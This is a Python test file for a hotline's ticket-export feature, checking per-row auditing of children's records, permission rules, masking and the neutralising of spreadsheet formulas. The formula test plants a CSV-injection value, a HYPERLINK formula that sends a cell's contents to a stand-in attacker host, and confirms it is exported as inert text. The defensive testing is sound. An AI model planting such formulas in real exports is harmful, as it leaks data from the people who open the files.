"""Issue 18: exports that audit every child's row, neutralise formulas and follow a permission."""

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import select

from hotline.extensions import db
from referrals.models import ReadAudit

CHILD = {"phone": "+8613900000013", "name": "李小雨", "is_minor": True, "age": 12}


def child_ticket(api, **overrides) -> dict:
    body = {"desk": "children", "category": "psych_support", "subject": "孩子情绪低落",
            "content": "孩子最近不愿上学", "caller": CHILD,
            "location": {"unit": "gulou", "address": "黄楼街道"}, **overrides}
    return api.create(as_user="seat2", **body)


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def audits(app, **where) -> list[ReadAudit]:
    with app.app_context():
        stmt = select(ReadAudit).order_by(ReadAudit.id)
        for key, value in where.items():
            stmt = stmt.where(getattr(ReadAudit, key) == value)
        rows = list(db.session.scalars(stmt))
        db.session.expunge_all()
        return rows


def test_a_streamed_csv_export_audits_every_childs_row(app, browser, api):
    """Row 1: the CSV is written while streaming, after the request's commit; still audited."""
    children = [child_ticket(api)["id"] for _ in range(3)]
    api.create()                                   # a general ticket: not audited
    supervisor = browser("supervisor1")
    response = supervisor.get("/console/tickets/export?format=csv")
    assert response.is_streamed
    rows = csv_rows(response)
    assert len(rows) == 5
    audited = {(a.subject_id, a.view) for a in audits(app, subject="ticket")}
    assert {(tid, "export") for tid in children} <= audited
    response = supervisor.get("/console/tickets/export?format=xlsx")
    assert len([a for a in audits(app, subject="ticket") if a.view == "export"]) == 6


def test_every_export_is_itself_an_audited_event(app, browser, api):
    child_ticket(api)
    api.create()
    supervisor = browser("supervisor1")
    supervisor.get("/console/tickets/export?format=csv&desk=children").get_data()
    (event,) = audits(app, kind="export")
    with app.app_context():
        from hotline.users import get_by_username

        assert event.user_id == get_by_username("supervisor1").id
    assert event.detail["rows"] == 1 and event.detail["filters"]["desk"] == "children"
    assert event.detail["format"] == "csv"


def test_formula_cells_are_neutralised_in_csv_and_xlsx(browser, api):
    """Row 5: =, +, -, @, tab and CR at the start of a cell are exported as text, not formulas."""
    api.create(subject='=HYPERLINK("http://evil.example/?x="&A1,"点我")',
               caller={"phone": "+8613800000001", "name": "=1+2", "is_minor": False})
    api.create(subject="@SUM(1)", caller={"phone": "+8613800000002", "name": "-3", "is_minor": False})
    supervisor = browser("supervisor1")
    rows = csv_rows(supervisor.get("/console/tickets/export?format=csv"))
    subjects = sorted(row[7] for row in rows[1:])
    names = sorted(row[8] for row in rows[1:])
    assert subjects == ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")", "'@SUM(1)"]
    assert names == ["'-3", "'=1+2"]
    # Phones start with + and stay usable: a phone number is not a formula.
    assert sorted(row[9] for row in rows[1:]) == ["+8613800000001", "+8613800000002"]

    response = supervisor.get("/console/tickets/export?format=xlsx")
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    # XLSX has cell types: the text is kept as it was typed, in a string cell.
    assert "=1+2" in [cell.value for cell in cells if cell.data_type == "s"]


def test_exports_follow_a_permission_of_their_own(app, browser, api, monkeypatch):
    """Seats and handlers no longer export by default; dispatchers export what they may see."""
    child_ticket(api)
    for username in ("seat2", "handler-gulou"):
        session = browser(username)
        session.get("/console/tickets/export?format=csv", expect=403)
        assert 'class="export"' not in session.html("/console/tickets")
    rows = csv_rows(browser("dispatcher1").get("/console/tickets/export?format=csv"))
    assert len(rows) == 2
    monkeypatch.setitem(app.config, "EXPORT_ROLES", ["supervisor", "admin", "dispatcher", "handler"])
    browser("handler-gulou").get("/console/tickets/export?format=csv")


def test_childrens_rows_are_masked_in_exports_for_whoever_sees_them_masked(app, browser, api,
                                                                          monkeypatch):
    tid = api.dispatched(unit="gulou", co_units=["edu"], desk="children", category="psych_support",
                         caller=CHILD)["id"]
    masked = api.ticket(tid, as_user="handler-edu")["caller"]
    assert masked["masked"]
    monkeypatch.setitem(app.config, "EXPORT_ROLES", ["supervisor", "handler"])
    rows = csv_rows(browser("handler-edu").get("/console/tickets/export?format=csv"))
    assert (rows[1][8], rows[1][9]) == (masked["name"], masked["phone"])
    assert CHILD["phone"] not in "".join(rows[1]) and CHILD["name"] not in "".join(rows[1])


def test_the_api_export_follows_the_same_rules(app, api):
    tid = child_ticket(api)["id"]
    api.create(subject="=1+2")
    response = api.get("/api/v1/tickets/export?format=csv", "dispatcher1")
    assert response.mimetype == "text/csv" and response.is_streamed
    rows = csv_rows(response)
    assert len(rows) == 3 and "'=1+2" in [row[7] for row in rows]
    assert (tid, "export") in {(a.subject_id, a.view) for a in audits(app, subject="ticket")}
    (event,) = audits(app, kind="export")
    assert event.detail["rows"] == 2
    response = api.get("/api/v1/tickets/export?format=xlsx&desk=children", "supervisor1")
    assert len(list(load_workbook(io.BytesIO(response.data)).active.values)) == 2
    api.assert_error(api.get("/api/v1/tickets/export", "seat1", expect=403), 403)


def test_an_export_holds_every_row_past_the_lists_count_cap(app, browser, api, monkeypatch):
    """The list counts up to LIST_COUNT_CAP ("1000+"); an export is the whole list, in chunks,
    and its audit says how many rows it holds."""
    for n in range(5):
        api.create(subject=f"第{n}张")
    monkeypatch.setitem(app.config, "LIST_COUNT_CAP", 1)
    monkeypatch.setattr("hotline.console.reports.EXPORT_CHUNK", 2)
    rows = csv_rows(browser("supervisor1").get("/console/tickets/export?format=csv"))
    assert len(rows) == 6                                    # the header and every ticket
    (event,) = audits(app, kind="export")
    assert event.detail["rows"] == 5
